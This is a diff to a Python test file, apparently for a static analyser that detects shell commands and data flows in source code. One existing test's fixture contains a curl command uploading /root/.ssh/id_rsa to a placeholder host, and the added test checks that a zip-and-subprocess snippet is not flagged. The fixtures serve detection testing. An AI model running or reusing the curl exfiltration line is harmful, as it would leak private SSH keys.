@@ -433,3 +433,18 @@ def test_a_value_is_followed_on_its_way(source, flow):
 def test_words_of_a_telling_program_are_read_as_a_command():
     source = "import subprocess\nsubprocess.run(['curl', '-F', 'f=@/root/.ssh/id_rsa', 'https://x.example'])"
     assert ("shell", "curl -F f=@/root/.ssh/id_rsa https://x.example") in layers(source)
+
+
+MORE_WORDS = """
+import subprocess, sys, zipfile
+def pack(more):
+    with zipfile.ZipFile("project.zip", "w") as held:
+        held.write("a.key")
+        command = [sys.executable, "tool.py", "config"]
+        command += [str(held), *more]
+        subprocess.Popen(command)
+"""
+
+
+def test_words_behind_a_known_script_are_not_started():
+    assert "file.write -> proc.exec" not in flows(MORE_WORDS)
